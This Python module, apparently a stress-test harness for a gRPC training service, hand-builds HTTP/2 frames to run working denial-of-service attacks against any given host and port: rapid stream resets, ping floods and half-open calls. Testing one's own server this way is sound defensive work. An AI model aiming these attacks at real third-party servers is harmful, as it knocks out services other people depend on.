"""What one peer can do to a gRPC server before any request is read, in raw HTTP/2.

As a program, `hostile_http2.py KIND HOST PORT SECS [CA]`, it attacks for so long and prints how
often it did.
"""

import contextlib
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

PATH = "/tfdrl.v1.Training/Report"
_HEADERS, _RST_STREAM, _PING = 1, 3, 6
_END_HEADERS, _ACK = 4, 1
_CANCEL = struct.pack("!I", 8)
_BURST = 100


class Connection:
    """One connection: h2 does what is civil, frames are added by hand."""

    def __init__(self, host, port, authority=None):
        self.socket = socket.create_connection((host, port), timeout=5)
        if authority is not None:
            context = ssl.create_default_context(cafile=authority)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname=host)
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._h2.initiate_connection()
        # Literals only: the same bytes are good for every stream.
        fields = {":method": "POST", ":scheme": "http", ":path": PATH, ":authority": host}
        fields |= {"te": "trailers", "content-type": "application/grpc"}
        literals = [hpack.NeverIndexedHeaderTuple(*field) for field in fields.items()]
        self._block = hpack.Encoder().encode(literals, huffman=False)
        self._next_stream, self._received = 1, b""
        self.socket.sendall(self._h2.data_to_send())
        self.greet()

    def greet(self):
        """Takes the server's settings and acknowledges them."""
        events = []
        while not any(isinstance(event, h2.events.RemoteSettingsChanged) for event in events):
            events = self._h2.receive_data(self.socket.recv(1 << 16))
        self.socket.sendall(self._h2.data_to_send())

    def flush(self):
        """Takes what came, and acknowledges pings."""
        self.socket.settimeout(0.0005)
        with contextlib.suppress(TimeoutError, ssl.SSLError):
            self._received += self.socket.recv(1 << 16)
        self.socket.settimeout(5)
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            kind, flags = self._received[3:5]
            frame, self._received = self._received[: 9 + length], self._received[9 + length :]
            if kind == _PING and not flags & _ACK and len(frame) == 17:
                self.socket.sendall(_frame(_PING, _ACK, 0, frame[9:]))

    def max_streams(self):
        """What the server has said that it takes at a time."""
        return self._h2.remote_settings.max_concurrent_streams

    def open_streams(self, count):
        """Sends the headers of so many calls, and no end of them."""
        streams = range(self._next_stream, self._next_stream + 2 * count, 2)
        self._next_stream = streams.stop
        self.socket.sendall(b"".join(self._headers(stream) for stream in streams))
        return streams

    def open_and_reset(self, count):
        """Opens and resets so many streams."""
        streams = range(self._next_stream, self._next_stream + 2 * count, 2)
        self._next_stream = streams.stop
        parts = (self._headers(s) + _frame(_RST_STREAM, 0, s, _CANCEL) for s in streams)
        self.socket.sendall(b"".join(parts))

    def ping(self, count):
        """Sends so many pings, and lets the answers pass."""
        self.socket.sendall(_frame(_PING, 0, 0, bytes(8)) * count)
        self.socket.recv(1 << 16)

    def close(self):
        self.socket.close()

    def _headers(self, stream):
        return _frame(_HEADERS, _END_HEADERS, stream, self._block)


def _frame(kind, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def rapid_resets(connect, secs, connections=1):
    """Resets streams as fast as it can; returns how many."""
    return _repeat(connect, secs, connections, lambda connection: connection.open_and_reset(_BURST))


def resets_on_many(connect, secs):
    """The same, over many connections in turn."""
    return rapid_resets(connect, secs, connections=200)


def pings(connect, secs):
    """Pings as fast as it can; returns how often."""
    return _repeat(connect, secs, 1, lambda connection: connection.ping(_BURST), flush=False)


def half_open_calls(connect, secs, connections=100, streams=100):
    """Begins calls and never ends them, for so long; returns how many."""
    opened = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            opened.append(connect())
            opened[-1].open_streams(streams)
    deadline_secs = time.monotonic() + secs
    while time.monotonic() < deadline_secs:
        for connection in opened:
            with contextlib.suppress(OSError):
                connection.flush()
        time.sleep(0.1)
    return streams * len(opened)


def _repeat(connect, secs, connections, attack, flush=True):
    opened, count, deadline_secs = (
        [connect() for _ in range(connections)],
        0,
        time.monotonic() + secs,
    )
    while time.monotonic() < deadline_secs:
        for i, connection in enumerate(opened):
            try:
                attack(connection)
                count += _BURST
                if flush:
                    connection.flush()
            except OSError:  # the server hung up
                connection.close()
                time.sleep(0.01)
                with contextlib.suppress(OSError):
                    opened[i] = connect()
    return count


ATTACKS = {
    "resets": rapid_resets,
    "resets_on_many": resets_on_many,
    "pings": pings,
    "half_open": half_open_calls,
}


def main():
    kind, host, port, secs, *authority = sys.argv[1:]
    count = ATTACKS[kind](lambda: Connection(host, int(port), *authority), float(secs))
    print(count, flush=True)


if __name__ == "__main__":
    main()
